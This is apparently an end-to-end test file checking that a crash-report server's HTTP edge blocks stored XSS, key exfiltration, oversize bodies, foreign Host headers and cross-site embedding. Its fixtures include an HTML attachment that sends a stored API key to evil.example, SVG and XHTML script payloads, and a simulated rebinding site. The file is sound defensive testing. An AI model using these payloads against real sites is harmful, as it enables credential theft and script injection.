"""The HTTP edge of `blackbox serve`, hardened (issue 15): attachments come back as downloads that
cannot run script on the dashboard's origin, every answer says nosniff, the dashboard has a strict
CSP and talks to its own origin only; oversize, slow and untyped bodies and foreign Host names are
refused at the door; and every name a POST accepts can be asked for again by its GET route."""

from __future__ import annotations

import base64
import json
import socket
import string
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, urlsplit

import httpx
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser

from local_runtime.process import Serve
from ports.limits import MAX_BODY_BYTES
from tests.e2e.conftest import browser_path, running
from tests.e2e.test_dashboard import png

JSON = {"content-type": "application/json"}
MiB = 1 << 20


def wait_for_report(client: httpx.Client, sku: str, event_id: str) -> dict:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        reports = client.get("/v1/crashes", params={"sku": sku, "limit": 1000}).json()["reports"]
        found = [r for r in reports if r["eventId"] == event_id]
        if found:
            return found[0]
        time.sleep(0.05)
    raise AssertionError(f"report {event_id} did not become visible in 30 s")


def directives(policy: str) -> dict[str, list[str]]:
    parsed = (part.split() for part in policy.split(";") if part.strip())
    return {words[0].lower(): words[1:] for words in parsed}


ATTACHMENTS = {
    "x.html": b"<script>fetch('//evil.example/?k=' + sessionStorage.getItem('blackbox-key'))</script>",
    "y.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "log.txt": b"<html><script>alert(1)</script></html>",
    "shot.png": png(4, 4, (1, 2, 3)),
    "photo.JPG": b"\xff\xd8\xff\xe0 not quite a jpeg",
    "r\u00e9sum\u00e9 1;.gif": b"GIF89a",
    "clip.WebP": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
}
RESUME = "r\u00e9sum\u00e9 1;.gif"


def test_attachments_are_downloads_that_cannot_run_script(serve: Serve):
    sku = "edges:attach"
    report = {"sku": sku, "attachments": {k: base64.b64encode(v).decode() for k, v in ATTACHMENTS.items()}}
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        answer = client.post("/v1/crashes", json=report)
        assert answer.status_code == 202, answer.text
        report_id = wait_for_report(client, sku, answer.json()["eventId"])["reportId"]
        expected_types = {"shot.png": "image/png", "photo.JPG": "image/jpeg", RESUME: "image/gif",
                          "clip.WebP": "image/webp"}
        for name, data in report["attachments"].items():
            response = client.get(f"/v1/crashes/{report_id}/attachments/{quote(name, safe='')}")
            assert response.status_code == 200 and response.content == base64.b64decode(data), name
            assert response.headers["content-type"] == expected_types.get(name, "application/octet-stream"), name
            assert response.headers["x-content-type-options"] == "nosniff"
            assert response.headers["cache-control"] == "no-store"
            policy = directives(response.headers["content-security-policy"])
            assert policy["default-src"] == ["'none'"] and "sandbox" in policy, name
            disposition = response.headers["content-disposition"]
            assert disposition.startswith("attachment;"), name
            if name.isascii():
                assert f'filename="{name}"' in disposition
        resume = client.get(f"/v1/crashes/{report_id}/attachments/{quote(RESUME, safe='')}")
        assert resume.headers["content-disposition"] == (
            "attachment; filename=\"r_sum_ 1;.gif\"; filename*=UTF-8''r%C3%A9sum%C3%A9%201%3B.gif")


def test_every_answer_says_nosniff_and_none_of_the_apis_is_stored(serve: Serve):
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        answers = {
            "health": client.get("/v1/health"),
            "a list": client.get("/v1/crashes", params={"sku": "edges:none"}),
            "accepted": client.post("/v1/sessions", json={"sku": "edges:none", "kind": "client"}),
            "a handler's 400": client.get("/v1/crashes", params={"sku": "edges:none", "limit": "0"}),
            "a handler's 404": client.get("/v1/crashes/999999999"),
            "the gateway's 404": client.get("/v1/nothing"),
            "the gateway's 413": client.post("/v1/crashes", content=b" " * (MAX_BODY_BYTES + 1), headers=JSON),
            "the dashboard": client.get("/"),
            "its script": client.get("/dashboard/app.js"),
            "its style": client.get("/dashboard/style.css"),
            "a missing asset": client.get("/dashboard/nothing.js"),
        }
    for what, response in answers.items():
        assert response.headers.get("x-content-type-options") == "nosniff", (what, response.status_code)
        # a studio's data (and its keys' answers) kept by no cache, a browser's or a proxy's; the
        # dashboard's own files are revalidated instead
        stored = "no-cache" if what in ("the dashboard", "its script", "its style") else "no-store"
        assert response.headers.get("cache-control") == stored, (what, response.status_code)


def test_the_dashboard_has_a_strict_policy_and_cannot_be_framed(serve: Serve):
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        for path in ("/", "/dashboard", "/dashboard/index.html", "/dashboard/app.js"):
            response = client.get(path)
            assert response.status_code == 200, path
            assert response.headers["x-frame-options"] == "DENY", path
            policy = directives(response.headers["content-security-policy"])
            assert policy["default-src"] == ["'none'"], path
            assert policy["script-src"] == ["'self'"] and policy["connect-src"] == ["'self'"], path
            assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'none'"], path
            assert not any("unsafe" in source for sources in policy.values() for source in sources), path


def test_the_dashboard_never_sends_the_key_to_another_origin(serve: Serve, browser: Browser):
    page = browser.new_page()
    origins: list[str] = []
    page.on("request", lambda request: origins.append(f"{urlsplit(request.url).scheme}://"
                                                      f"{urlsplit(request.url).netloc}"))
    page.route("http://evil.example/**", lambda route: route.fulfill(status=200, json={}))
    page.goto(f"{serve.url}/dashboard/nothing-yet")
    page.evaluate("sessionStorage.setItem('blackbox-key', 'read-secret')")
    page.goto(f"{serve.url}/?sku=edges:pc&api=http://evil.example")
    page.wait_for_function("() => document.body.dataset.loaded || document.getElementById('status').textContent")
    assert page.locator("#key").input_value() == "read-secret"
    assert set(origins) == {serve.url}
    page.close()


def test_a_page_of_another_site_cannot_show_an_attachment(serve: Serve, browser: Browser):
    """Found from outside: with no keys, a page of another site showed a report's screenshot in an
    `<img>` (a no-cors GET says no Origin) and read its size: which reports have one, how large.
    The other site resolves to this machine, as a rebinding one does, so that the browser's own
    guard of private addresses lets the request through and the serve is what is tested. A link
    on it to the dashboard is followed."""
    sku = "edges:embedded"
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        answer = client.post("/v1/crashes", json={
            "sku": sku, "attachments": {"shot.png": base64.b64encode(ATTACHMENTS["shot.png"]).decode()}})
        assert answer.status_code == 202, answer.text
        report_id = wait_for_report(client, sku, answer.json()["eventId"])["reportId"]
        source = f"{serve.url}/v1/crashes/{report_id}/attachments/shot.png"
        refused = client.get(source, headers={"sec-fetch-site": "cross-site", "sec-fetch-dest": "image"})
        assert refused.status_code == 403 and refused.json()["error"] == "forbidden"
    page_html = f'<img id="i" src="{source}"><a id="a" href="{serve.url}/">the dashboard</a>'.encode()

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(page_html)))
            self.end_headers()
            self.wfile.write(page_html)

        def log_message(self, *args: object) -> None:
            pass

    site = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    other = browser.browser_type.launch(executable_path=browser_path(), args=[
        "--no-sandbox", "--host-resolver-rules=MAP evil.example 127.0.0.1"])
    try:
        page = other.new_page()
        failed: list[str] = []
        page.on("requestfailed", lambda request: failed.append(request.url))
        shown = "() => { const i = document.getElementById('i'); return i.complete && [i.naturalWidth] }"
        page.goto(f"http://evil.example:{site.server_port}/page")
        assert page.wait_for_function(shown).json_value() == [0]
        # the browser does not show the serve's 403, which is JSON, and fails the request
        assert failed == [source]
        # from review: a link followed from that page is served (the dashboard cannot be framed)
        with page.expect_navigation() as followed:
            page.click("#a")
        assert followed.value is not None and followed.value.status == 200
        # the same page on the serve's own origin shows it
        page.route(f"{serve.url}/page", lambda route: route.fulfill(status=200, content_type="text/html",
                                                                     body=page_html))
        page.goto(f"{serve.url}/page")
        assert page.wait_for_function(shown).json_value() == [4]
    finally:
        other.close()
        site.shutdown()


def raw_request(serve: Serve, head: str) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", serve.port), timeout=10)
    sock.sendall(head.replace("\n", "\r\n").encode())
    return sock


def read_to_close(sock: socket.socket) -> bytes:
    """Everything the server sends until it closes the connection (a timeout fails the test). A
    connection closed on a body still coming is reset, after the answer."""
    data = b""
    with suppress(ConnectionResetError):
        while chunk := sock.recv(65536):
            data += chunk
    return data


def test_a_request_http_cannot_read_gets_the_contracts_error(serve: Serve):
    """Found by schemathesis (CI's derandomized run): a Content-Length that is no number was
    answered by uvicorn itself, 400 text/plain "Invalid HTTP request received.", outside the contract."""
    head = f"GET /v1/health HTTP/1.1\nHost: 127.0.0.1:{serve.port}\nContent-Length: X\n\n"
    with raw_request(serve, head) as sock:
        answer = read_to_close(sock)
    status, _, body = answer.partition(b"\r\n\r\n")
    assert status.startswith(b"HTTP/1.1 400 "), answer[:200]
    assert b"content-type: application/json" in status.lower() and b"x-content-type-options: nosniff" in status.lower()
    assert json.loads(body)["error"] == "bad_request"


def test_a_declared_length_over_the_limit_is_refused_before_the_body_is_read(serve: Serve):
    head = (f"POST /v1/crashes HTTP/1.1\nHost: 127.0.0.1:{serve.port}\nContent-Type: application/json\n"
            f"Content-Length: {50 * MiB}\n\n")
    with raw_request(serve, head) as sock:
        answer = read_to_close(sock)  # not a byte of the body was sent: the answer cannot wait for it
    assert answer.startswith(b"HTTP/1.1 413 "), answer[:200]
    assert b"payload_too_large" in answer and b"connection: close" in answer.lower()


def test_a_streamed_body_stops_being_read_at_the_limit(serve: Serve):
    head = (f"POST /v1/crashes HTTP/1.1\nHost: 127.0.0.1:{serve.port}\nContent-Type: application/json\n"
            f"Transfer-Encoding: chunked\n\n")
    chunk = b"%x\r\n%s\r\n" % (64 * 1024, b" " * 64 * 1024)
    sent = 0

    def stream(sock: socket.socket) -> None:
        nonlocal sent
        try:
            while sent < 50 * MiB:
                sock.sendall(chunk)
                sent += 64 * 1024
            sock.sendall(b"0\r\n\r\n")
        except OSError:
            pass  # the server closed the connection: what is asked for

    with raw_request(serve, head) as sock:
        sender = threading.Thread(target=stream, args=(sock,))
        sender.start()
        try:
            answer = read_to_close(sock)
        finally:
            with suppress(OSError):  # unblocks the sender, if the server has not closed already
                sock.shutdown(socket.SHUT_RDWR)
            sender.join()
    assert answer.startswith(b"HTTP/1.1 413 "), answer[:200]
    assert sent < 16 * MiB  # the limit, plus what the socket buffers hold


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
def test_an_ordinary_client_reads_the_413_of_a_big_body(serve: Serve, chunked: bool):
    body = b" " * (20 * MiB)
    content = iter([body[i:i + MiB] for i in range(0, len(body), MiB)]) if chunked else body
    started = time.monotonic()
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        response = client.post("/v1/crashes", content=content, headers=JSON)
        assert (response.status_code, response.json()["error"]) == (413, "payload_too_large")
        assert client.get("/v1/health").status_code == 200  # a new connection, served at once
    assert time.monotonic() - started < 10


def test_a_body_just_within_the_limit_is_read(serve: Serve):
    padding = MAX_BODY_BYTES - len(b'{"sku": "edges:big", "pad": ""}')
    body = b'{"sku": "edges:big", "pad": "' + b"x" * padding + b'"}'
    assert len(body) == MAX_BODY_BYTES
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        assert client.post("/v1/crashes", content=body, headers=JSON).status_code == 202
        answer = client.post("/v1/crashes", content=body + b" ", headers=JSON)
        assert (answer.status_code, answer.json()["error"]) == (413, "payload_too_large")


LOOPBACK_HOSTS = ["localhost", "LocalHost", "127.0.0.1", "[::1]"]
FOREIGN_HOSTS = ["evil.example", "localhost.evil.example", "127.0.0.1.nip.io", "10.0.0.7", "[::2]", "0.0.0.0",
                 "localhost:80@evil.example", "::1"]


def test_open_mode_serves_loopback_host_names_only(serve: Serve):
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        for host in LOOPBACK_HOSTS:
            for with_port in (host, f"{host}:{serve.port}", f"{host}:1"):
                for path in ("/v1/health", "/"):
                    response = client.get(path, headers={"host": with_port})
                    assert response.status_code == 200, (with_port, path)
        for host in FOREIGN_HOSTS:
            for with_port in (host, f"{host}:{serve.port}"):
                for path in ("/v1/health", "/", "/v1/crashes?sku=g"):
                    response = client.get(path, headers={"host": with_port})
                    assert response.status_code == 403, (with_port, path, response.text)
                    assert response.json()["error"] == "forbidden" and response.json()["message"]
        posted = client.post("/v1/crashes", json={"sku": "edges:rebound"}, headers={"host": "evil.example"})
        assert posted.status_code == 403
        assert client.get("/v1/crashes", params={"sku": "edges:rebound"}).json()["reports"] == []


# what a name may be made of: the router's punctuation, ASCII, and the Unicode categories where
# Python's \w (the router's) and the regex crate's \w (pydantic's) differ: marks, other numbers,
# connector punctuation, joiners; letters from other scripts as the baseline
name_chars = st.one_of(
    st.sampled_from(string.ascii_letters + string.digits + "-._~()'!*:@,;=+&$%<> []{}|^\"#?\\"),
    st.characters(categories=["Mn", "Mc", "Me", "No", "Nl", "Pc", "Lo", "Lm", "Nd", "Sk", "Cf"]),
)
# mostly names of the router's own characters, so that many are accepted; then anything of the mix
names = st.text(st.sampled_from(string.ascii_letters + "-._~()'!*:@,;=+&$%<> []{}|^") | st.characters(
    categories=["L", "Nd", "No"]), min_size=1, max_size=12) | st.text(name_chars, min_size=1, max_size=12)


@pytest.fixture(scope="module")
def embedded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serve]:
    """The routes and the validation are the same code on every profile: one is enough here."""
    with running("embedded", tmp_path_factory.mktemp("names")) as server:
        yield server


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=names)
def test_every_name_a_post_accepts_its_get_route_finds(embedded: Serve, name: str):
    serve = embedded
    sku = "edges:names"
    board = f"names-{uuid.uuid4().hex[:8]}"
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        crash = client.post("/v1/crashes", json={"sku": sku, "attachments": {name: "aGk="}})
        score = client.post("/v1/scores", json={"board": board, "playerId": name, "score": 7})
        assert crash.status_code in (202, 400) and score.status_code in (202, 400), (crash.text, score.text)
        assert crash.status_code == score.status_code  # one rule for both
        event("accepted" if crash.status_code == 202 else "refused")
        if crash.status_code == 400:
            return
        segment = quote(name, safe="")
        report_id = wait_for_report(client, sku, crash.json()["eventId"])["reportId"]
        attachment = client.get(f"/v1/crashes/{report_id}/attachments/{segment}")
        assert (attachment.status_code, attachment.content) == (200, b"hi"), (name, attachment.text)
        deadline = time.monotonic() + 30
        # the worker makes the board, then writes its first scores
        while (player := client.get(f"/v1/leaderboards/{board}/players/{segment}")).status_code == 404 and \
                time.monotonic() < deadline:
            time.sleep(0.05)
        assert player.status_code == 200 and player.json()["playerId"] == name, (name, player.text)
        around = client.get(f"/v1/leaderboards/{board}/around/{segment}")
        assert around.status_code == 200, (name, around.text)


def test_a_name_with_combining_marks_is_refused_or_found(serve: Serve):
    """The case that was found: accepted at submit, then 404 from its route."""
    name = "e\u0301.txt"
    with httpx.Client(base_url=serve.url, timeout=30) as client:
        crash = client.post("/v1/crashes", json={"sku": "edges:marks", "attachments": {name: "aGk="}})
        score = client.post("/v1/scores", json={"board": "edges-marks", "playerId": name, "score": 1})
    assert (crash.status_code, crash.json()["field"]) == (400, "attachments")
    assert (score.status_code, score.json()["field"]) == (400, "playerId")
